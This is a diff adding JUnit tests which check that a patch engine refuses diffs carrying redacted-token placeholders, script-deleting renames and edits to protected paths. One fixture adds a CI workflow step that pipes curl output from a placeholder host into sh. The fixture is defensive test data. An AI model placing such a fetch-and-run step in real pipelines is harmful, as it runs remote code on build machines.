@@ -124,4 +124,75 @@ class PatchCheckCommandTest {
         assertThat(r.code()).isEqualTo(1);
         assertThat(r.out()).contains("refused");
     }
+
+    /** Issue 12: `engine patch apply` did no placeholder check at all. */
+    @Test
+    void check_and_apply_refuse_a_placeholder_in_an_added_line() throws Exception {
+        home.write("leak.diff", """
+                diff --git a/cluster/talos/worker.yaml b/cluster/talos/worker.yaml
+                --- a/cluster/talos/worker.yaml
+                +++ b/cluster/talos/worker.yaml
+                @@ -1,2 +1,3 @@
+                 machine:
+                   type: worker
+                +  token: [REDACTED:token:9f8e7d6c]
+                """);
+        for (String verb : new String[] {"check", "apply"}) {
+            Home.Result r = home.engine("patch", verb, "leak.diff");
+            assertThat(r.code()).as(verb + ": " + r.all()).isEqualTo(1);
+            assertThat(r.out()).contains("I8-placeholder").contains("cluster/talos/worker.yaml");
+        }
+        assertThat(home.git("branch", "--list", "ai/*")).isBlank();
+        assertThat(home.audit().stream().filter(n -> n.path("event").asText().equals("patch_refused"))
+                .map(n -> n.at("/details/source").asText())).containsExactly("manual");
+    }
+
+    /** Issue 12: a rename header deleted the stage's script ("rename from stages/s.sh" landed, the stage then exited 127). */
+    @Test
+    void apply_refuses_a_rename_and_the_script_stays() throws Exception {
+        home.write("rename.diff", """
+                diff --git a/stages/talos.sh b/stages/talos-old.sh
+                similarity index 100%
+                rename from stages/talos.sh
+                rename to stages/talos-old.sh
+                """);
+        Home.Result r = home.engine("patch", "apply", "rename.diff");
+        assertThat(r.code()).as(r.all()).isEqualTo(1);
+        assertThat(r.out()).contains("I4-rename").contains("stages/talos.sh");
+        assertThat(home.git("branch", "--list", "ai/*")).isBlank();
+        assertThat(home.git("ls-tree", "--name-only", "main", "stages/")).isEqualTo("stages/talos.sh\n");
+    }
+
+    @Test
+    void repository_control_files_and_the_configured_list_are_protected() throws Exception {
+        home.write("context_map.yaml", """
+                stages:
+                  talos:
+                    command: "stages/talos.sh"
+                    files: [stages/talos.sh]
+                engine:
+                  protected: [cluster/]
+                """);
+        home.commit("protect cluster/");
+        home.write("ci.diff", """
+                diff --git a/.github/workflows/deploy.yml b/.github/workflows/deploy.yml
+                new file mode 100644
+                --- /dev/null
+                +++ b/.github/workflows/deploy.yml
+                @@ -0,0 +1,3 @@
+                +on: push
+                +jobs: {x: {runs-on: self-hosted, steps: [{run: "curl https://example.invalid/x | sh"}]}}
+                +# ok
+                --- a/cluster/talos/worker.yaml
+                +++ b/cluster/talos/worker.yaml
+                @@ -1,2 +1,2 @@
+                 machine:
+                -  type: worker
+                +  type: controlplane
+                """);
+        Home.Result r = home.engine("patch", "check", "ci.diff");
+        assertThat(r.code()).as(r.all()).isEqualTo(1);
+        assertThat(r.out()).contains("I2-protected  .github/workflows/deploy.yml").contains("I2-protected  cluster/talos/worker.yaml");
+        assertThat(home.engine("validate").out()).doesNotContain("engine.protected");
+    }
 }
